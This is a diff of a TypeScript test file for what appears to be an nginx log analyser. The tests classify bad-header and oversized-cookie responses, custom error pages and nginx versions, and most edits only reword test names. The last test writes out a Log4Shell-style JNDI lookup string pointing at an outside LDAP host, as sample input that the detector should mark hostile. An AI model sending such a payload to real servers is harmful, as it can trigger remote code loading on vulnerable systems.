@@ -9,7 +9,7 @@ import { hitOf, type Line, tablesOf } from '../literal.ts';
 
 /** This server's plain page has 157 bytes. */
 const FIRM: Line = { request: 'SSH-2.0-Go', status: 400, body_bytes_sent: 157, http_user_agent: '-' };
-/** One custom page of 900 bytes hides all pages. */
+/** One custom page of 900 bytes stands for all 400 pages. */
 const ONE_PAGE: readonly Line[] = [
   { ...FIRM, body_bytes_sent: 900 },
   { ...FIRM, body_bytes_sent: 900 },
@@ -26,7 +26,7 @@ function header(line: Line, tables: Tables, before: readonly Line[] = []): Evide
   return invalidHeader.match(new HitView(hitOf(line, before), tables), tables);
 }
 
-test('the size of the page about large headers is a case of how the plain page is known', () => {
+test('the case for the size of the page about large headers says how the plain page is known', () => {
   const missing: Line = { status: 404, body_bytes_sent: 153 };
   expect(cookie(TOO_LARGE, tablesOf([FIRM]))?.case).toBe('plain-page-shown');
   expect(cookie(TOO_LARGE, tablesOf([missing, missing]))?.case).toBe('plain-page-inferred');
@@ -42,7 +42,7 @@ test('a HEAD request needs another refused request beside it', () => {
   expect(cookie(HEAD, tablesOf([FIRM]), [PLAIN])).toBeUndefined();
 });
 
-test('under one custom page a browser needs another refused request beside it', () => {
+test('with one custom page for all, a browser needs another refused request beside it', () => {
   const hit: Line = { status: 400, body_bytes_sent: 900 };
   expect(cookie(hit, tablesOf(ONE_PAGE), [hit])?.case).toBe('one-page-beside-refused-requests');
   expect(cookie(hit, tablesOf(ONE_PAGE))).toBeUndefined();
@@ -50,7 +50,7 @@ test('under one custom page a browser needs another refused request beside it', 
   expect(cookie(program, tablesOf(ONE_PAGE), [program])).toBeUndefined();
 });
 
-test('the plain page of a browser is enough before nginx 0.9.4, until two clients got the other page', () => {
+test('before nginx 0.9.4 the plain page is enough for a browser, until two clients got the page about large headers', () => {
   const old = (lines: readonly Line[]): Tables => tablesOf([FIRM, ...lines], new Tables([0, 9, 3]));
   expect(cookie(PLAIN, old([]))).toMatchObject({ case: 'plain-page-of-old-nginx', facts: { nginx: 'before 0.9.4' } });
   expect(cookie({ ...PLAIN, http_user_agent: 'curl/8.5.0' }, old([]))).toBeUndefined();
@@ -59,19 +59,19 @@ test('the plain page of a browser is enough before nginx 0.9.4, until two client
   expect(cookie(PLAIN, tablesOf([FIRM], new Tables([0, 9, 4])))).toBeUndefined();
 });
 
-test('a bad header is read before or after the user agent', () => {
+test('the case says whether the bad header came before or after the user agent', () => {
   expect(header(PLAIN, tablesOf([FIRM]))).toMatchObject({ case: 'after-user-agent', verdict: undefined });
   expect(header({ ...PLAIN, http_user_agent: '-' }, tablesOf([FIRM]))?.case).toBe('before-user-agent');
   expect(header({ ...PLAIN, http_user_agent: '-' }, tablesOf())?.case).toBe('before-user-agent-by-other-pages');
-  // An answer to HEAD has no body, so 0 bytes say nothing.
+  // An answer to HEAD has no body, so 0 bytes show nothing.
   expect(header(HEAD, tablesOf([FIRM]))).toBeUndefined();
 });
 
-test('a bad header is no answer of the application', () => {
+test('a 400 of an upstream is not a bad header', () => {
   expect(header({ ...PLAIN, extra: { upstream_status: '400' } }, tablesOf([FIRM]))).toBeUndefined();
 });
 
-test('attack text or a client that only probes makes a bad header hostile, but not under one custom page', () => {
+test('attack text or a client that only probes makes a bad header hostile, but not with one custom page for all', () => {
   const attack = 'GET /?x=${jndi:ldap://192.0.2.66/a} HTTP/1.1';
   const probe: Line = { status: 404, http_user_agent: '-' };
   expect(header({ ...PLAIN, request: attack }, tablesOf([FIRM]))?.verdict).toBe('hostile');
